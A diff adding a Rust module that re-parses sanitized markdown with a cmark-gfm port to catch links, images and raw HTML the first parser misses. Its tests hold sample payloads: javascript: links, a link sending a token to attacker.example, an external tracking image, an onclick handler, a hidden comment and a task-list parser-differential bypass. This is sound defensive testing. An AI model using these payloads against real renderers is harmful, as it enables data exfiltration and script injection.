@@ -1,0 +1,237 @@
+//! A second reading of sanitized markdown, as cmark-gfm reads it. Used by
+//! [`super::markup::sanitize_markup`]; only the parser options are public (tests and
+//! fuzz targets render with them).
+//!
+//! The markdown sanitizer reads text with `pulldown-cmark`. Hosts render it with other
+//! `CommonMark` implementations, most often cmark-gfm (GitHub, many chat clients), and
+//! those disagree with `pulldown-cmark` on corners: a list item holding only a task marker
+//! ends its paragraph for `pulldown-cmark` (so an indented next line is a code block) and
+//! not for cmark-gfm (so the line is a lazy continuation with live links). Every such
+//! corner is a way past the sanitizer. So the sanitized text is read again with `comrak`,
+//! a port of cmark-gfm that passes its spec and extension tests, with the GFM extensions
+//! on (tables, strikethrough, task lists, footnotes, autolinks), and anything that reading
+//! finds active is reported; the caller then escapes the whole text.
+//!
+//! Active, as the markdown sanitizer's own rules have it (module docs of
+//! [`super::markdown`]):
+//! - a link (or autolink) whose destination has a scheme other than `http`, `https`,
+//!   `mailto`, or carries data ([`markup::data_carriers`]) to an untrusted host;
+//! - an image whose source is not relative (an `http(s)` host not trusted, or any other
+//!   scheme);
+//! - raw HTML (block or inline) that html5ever's tokenizer reads with an element of
+//!   [`html::ACTIVE_TAGS`], an `on*` handler or other active attribute, a URL attribute
+//!   other than a safe `href`, a comment with text in it, or a doctype.
+
+use super::html;
+use super::markup::{self, ContentPolicy, Target};
+use crate::finding::Code;
+use comrak::nodes::NodeValue;
+use html5ever::buffer_queue::BufferQueue;
+use html5ever::tendril::StrTendril;
+use html5ever::tokenizer::{TagKind, Token, TokenSink, TokenSinkResult, Tokenizer, TokenizerOpts};
+use std::cell::RefCell;
+
+/// The `comrak` options of the second reading: the GFM extensions hosts render, as for
+/// [`super::markdown`], plus autolinks (bare URLs are links for cmark-gfm;
+/// `pulldown-cmark` has no such extension, the sanitizer scans text for them instead).
+/// Raw HTML is parsed either way; rendering it needs `render.r#unsafe` on top.
+#[must_use]
+pub fn options() -> comrak::Options<'static> {
+    let mut options = comrak::Options::default();
+    options.extension.strikethrough = true;
+    options.extension.table = true;
+    options.extension.autolink = true;
+    options.extension.tasklist = true;
+    options.extension.footnotes = true;
+    options
+}
+
+/// The first construct of `text` that cmark-gfm reads as active: the finding code it
+/// falls under and what it is (for the finding's message; never the URL or text
+/// itself). `None` when the reading finds nothing active.
+pub(crate) fn first_active(text: &str, policy: &ContentPolicy) -> Option<(Code, String)> {
+    let arena = comrak::Arena::new();
+    let root = comrak::parse_document(&arena, text, &options());
+    for node in root.descendants() {
+        let data = node.data();
+        let found = match &data.value {
+            NodeValue::Link(link) => active_link(&link.url, policy),
+            NodeValue::Image(image) => active_image(&image.url, policy),
+            NodeValue::HtmlBlock(block) => active_html(&block.literal, policy),
+            NodeValue::HtmlInline(inline) => active_html(inline, policy),
+            _ => None,
+        };
+        if found.is_some() {
+            return found;
+        }
+    }
+    None
+}
+
+fn active_link(dest: &str, policy: &ContentPolicy) -> Option<(Code, String)> {
+    match markup::classify(dest) {
+        Target::Disallowed(scheme) => Some((
+            Code::DangerousUrlScheme,
+            format!("a link to a {scheme}: URL"),
+        )),
+        Target::Web(url) => {
+            let host = url.host_str().unwrap_or_default();
+            (!policy.is_trusted(host) && !markup::data_carriers(&url).is_empty()).then(|| {
+                (
+                    Code::LinkExfiltration,
+                    format!("a link carrying data to {host}"),
+                )
+            })
+        }
+        Target::Mailto | Target::Relative | Target::Invalid => None,
+    }
+}
+
+fn active_image(src: &str, policy: &ContentPolicy) -> Option<(Code, String)> {
+    match markup::classify(src) {
+        Target::Web(url) => {
+            let host = url.host_str().unwrap_or_default();
+            (!policy.is_trusted(host))
+                .then(|| (Code::ExternalImage, format!("an image loaded from {host}")))
+        }
+        Target::Disallowed(scheme) => Some((
+            Code::DangerousUrlScheme,
+            format!("an image with a {scheme}: source"),
+        )),
+        Target::Mailto => Some((
+            Code::DangerousUrlScheme,
+            "an image with a mailto: source".to_owned(),
+        )),
+        Target::Relative | Target::Invalid => None,
+    }
+}
+
+/// What html5ever's tokenizer finds active in one raw HTML block or inline tag.
+fn active_html(source: &str, policy: &ContentPolicy) -> Option<(Code, String)> {
+    let sink = Sink {
+        policy,
+        found: RefCell::new(None),
+    };
+    let tokenizer = Tokenizer::new(sink, TokenizerOpts::default());
+    let queue = BufferQueue::default();
+    queue.push_back(StrTendril::from_slice(source));
+    let _ = tokenizer.feed(&queue);
+    tokenizer.end();
+    tokenizer.sink.found.take()
+}
+
+/// Keeps the first active token.
+struct Sink<'p> {
+    policy: &'p ContentPolicy,
+    found: RefCell<Option<(Code, String)>>,
+}
+
+impl Sink<'_> {
+    fn tag(&self, name: &str, attrs: &[html5ever::Attribute]) -> Option<(Code, String)> {
+        if html::ACTIVE_TAGS.contains(&name) {
+            let code = if matches!(name, "img" | "image" | "picture" | "source") {
+                Code::ExternalImage
+            } else {
+                Code::HtmlSanitized
+            };
+            return Some((code, format!("an HTML <{name}> element")));
+        }
+        for attr in attrs {
+            let key: &str = &attr.name.local;
+            let value: &str = &attr.value;
+            if key.starts_with("on") || html::ACTIVE_ATTRIBUTES.contains(&key) {
+                return Some((
+                    Code::HtmlSanitized,
+                    format!("an HTML {key} attribute on <{name}>"),
+                ));
+            }
+            if key == "href" {
+                if let Some(found) = active_link(value, self.policy) {
+                    return Some(found);
+                }
+            } else if html::URL_ATTRIBUTES.contains(&key) && !value.trim().is_empty() {
+                return Some((
+                    Code::HtmlSanitized,
+                    format!("an HTML {key} URL on <{name}>"),
+                ));
+            }
+        }
+        None
+    }
+}
+
+impl TokenSink for Sink<'_> {
+    type Handle = ();
+
+    fn process_token(&self, token: Token, _line: u64) -> TokenSinkResult<()> {
+        if self.found.borrow().is_some() {
+            return TokenSinkResult::Continue;
+        }
+        let found = match token {
+            Token::TagToken(tag) if tag.kind == TagKind::StartTag => {
+                self.tag(&tag.name, &tag.attrs)
+            }
+            Token::CommentToken(c)
+                if !c
+                    .trim_matches(|ch: char| ch == '-' || ch.is_whitespace())
+                    .is_empty() =>
+            {
+                Some((Code::HiddenComment, "an HTML comment with text".to_owned()))
+            }
+            Token::DoctypeToken(_) => Some((Code::HiddenComment, "an HTML doctype".to_owned())),
+            _ => None,
+        };
+        if found.is_some() {
+            *self.found.borrow_mut() = found;
+        }
+        TokenSinkResult::Continue
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    fn active(text: &str) -> Option<Code> {
+        first_active(text, &ContentPolicy::default()).map(|(code, _)| code)
+    }
+
+    /// Each kind of active construct is found, and ordinary markdown is not.
+    #[test]
+    fn what_cmark_gfm_reads_as_active() {
+        let secret = "https://attacker.example/c?token=c2VjcmV0LXRva2VuLXZhbHVl";
+        let cases: Vec<(String, Option<Code>)> = vec![
+            (
+                "[a](javascript:alert(1))".into(),
+                Some(Code::DangerousUrlScheme),
+            ),
+            (format!("[a]({secret})"), Some(Code::LinkExfiltration)),
+            (format!("see {secret} now"), Some(Code::LinkExfiltration)),
+            (
+                "![i](https://attacker.example/p.png)".into(),
+                Some(Code::ExternalImage),
+            ),
+            ("<img src=x>".into(), Some(Code::ExternalImage)),
+            ("<b onclick=\"x()\">b</b>".into(), Some(Code::HtmlSanitized)),
+            (
+                "<a href=\"javascript:x\">a</a>".into(),
+                Some(Code::DangerousUrlScheme),
+            ),
+            ("<!-- do this -->".into(), Some(Code::HiddenComment)),
+            // A task marker alone on its line: the next line continues the paragraph.
+            (
+                "- [x]\n    [a](javascript:alert(1)) text\n".into(),
+                Some(Code::DangerousUrlScheme),
+            ),
+            // Look-alikes.
+            ("[docs](https://docs.example.com/page?lang=en)".into(), None),
+            ("![logo](img/logo.png) <b>bold</b> <!-- -->".into(), None),
+            ("    [a](javascript:alert(1))\n".into(), None),
+            ("`<script>` and www.example.com".into(), None),
+            ("- [x] done\n- [ ] open\n".into(), None),
+        ];
+        for (text, want) in cases {
+            assert_eq!(active(&text), want, "{text:?}");
+        }
+    }
+}
